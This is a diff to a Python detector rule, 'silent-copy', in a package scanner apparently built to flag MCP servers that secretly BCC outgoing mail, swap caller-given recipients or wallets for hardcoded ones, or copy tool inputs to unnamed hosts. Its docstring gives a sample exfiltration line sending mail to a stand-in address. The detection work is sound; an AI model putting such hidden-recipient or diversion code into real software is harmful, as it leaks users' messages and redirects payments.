@@ -1,16 +1,26 @@
-"""Outgoing messages get a recipient that nobody asked for.
+"""What is sent also goes, or instead goes, to somebody whom nobody named.
 
-**What.** A mail that the package sends has a fixed address among its recipients, copies or
-blind copies: `bcc: "..."` in the options of a mail, a `Bcc` header, or an address that is written in the
-code beside the recipients that the caller gave.
+**What.**
 
-**Why.** Every mail that the assistant sends is read by somebody else, and the sender never sees
-it. This is how the first malicious MCP server that became known worked.
+- A mail that the package sends has a fixed address among its recipients, copies or blind copies: `bcc: "..."` in
+  the options of a mail, a `Bcc` header, an address that is written in the code beside the recipients that the
+  caller gave, or is put into their list.
+- A recipient, address, account or wallet that the caller gave is replaced by one that is written in the code:
+  by a condition, in a function that "normalises" it, in the request that is built from it.
+- What a tool is given is sent, in a request whose answer nobody uses, to a fixed host that is no service the
+  package or its tools speak of.
+
+**Why.** Every mail that the assistant sends is read by somebody else, payments arrive at another's account, and
+the sender never sees it. This is how the first malicious MCP server that became known worked.
 
 **Example.** `transport.sendMail({ to, subject, text, bcc: "copies@exfil.invalid" })`
 
-**Left alone.** A fixed sender; a fixed only recipient (a contact form); copies that the caller of the tool
-asks for; addresses that come from the configuration.
+**Reported with less weight.** Requests to a host that the README names, or that a setting of the user allows;
+recipients that are exchanged on trial (`dryRun`, `testnet`).
+
+**Left alone.** A fixed sender; a fixed only recipient (a contact form); a default where none was given; copies
+that the caller of the tool asks for; addresses from the configuration; the service that the package is a client
+of; a tool that says that it sends; counts and lengths.
 """
 
 from __future__ import annotations
@@ -20,8 +30,10 @@ from collections.abc import Iterator
 from typing import TYPE_CHECKING
 
 from douane.detectors._catalogue import encoded
+from douane.detectors._diverted import diverted
 from douane.detectors._flow import HOLE, State, program_of
 from douane.detectors._flow.shapes import elements
+from douane.detectors._foreign import copies
 from douane.detectors._places import evidence_at, is_aside
 from douane.model import Confidence, Severity
 from douane.rules import Evidence, Rule
@@ -30,6 +42,7 @@ if TYPE_CHECKING:
     from tree_sitter import Node
 
     from douane.detectors._flow import Index, Program
+    from douane.model import Surface
     from douane.syntax import Codebase
 
 _HIDDEN = frozenset(
@@ -63,6 +76,36 @@ def look(codebase: Codebase) -> Iterator[Evidence]:
                     why=f"every message also goes to {added}, as {kind} that nobody asked for",
                     severity=None if name in _HIDDEN else Severity.HIGH,
                 )
+
+
+    yield from _diversions(program)
+
+
+def _diversions(program: Program) -> Iterator[Evidence]:
+    for state, fixed, trial in diverted(program):
+        yield evidence_at(
+            state,
+            why=f"the recipient that the caller gave is exchanged for, or joined by, {fixed[:80]}",
+            severity=Severity.LOW if trial else None,
+            confidence=Confidence.MEDIUM,
+        )
+
+
+def copied(codebase: Codebase, surface: Surface) -> Iterator[Evidence]:
+    """Yield the requests that take along what tools are given, to hosts that nobody spoke of."""
+    for copy in copies(codebase, program_of(codebase), surface):
+        severity = Severity.HIGH
+        if copy.disclosed:
+            severity = Severity.MEDIUM
+        if copy.opted:
+            severity = Severity.LOW
+        origin = f"{copy.trace.at.index.path}:{copy.trace.at.line}"
+        yield evidence_at(
+            copy.at,
+            why=f"{copy.trace.what} ({origin}) also goes to {', '.join(copy.hosts[:3])}, whose answer nobody uses",
+            severity=severity,
+            confidence=Confidence.MEDIUM,
+        )
 
 
 def _recipients(index: Index) -> Iterator[tuple[str, Node]]:
@@ -108,11 +151,12 @@ def _added(program: Program, name: str, state: State) -> str:
 
 RULE = Rule(
     id="silent-copy",
-    summary="outgoing messages get a recipient that nobody asked for",
+    summary="what is sent also goes, or instead goes, to somebody whom nobody named",
     severity=Severity.CRITICAL,
     confidence=Confidence.HIGH,
     row="supply.code",
     remedy="Do not use this package; tell the people whose messages went through it.",
     taxonomy=("MCP06:2025", "MCP10:2025", "SAFE-T1910", "AML.T0086"),
     code=look,
+    server=copied,
 )
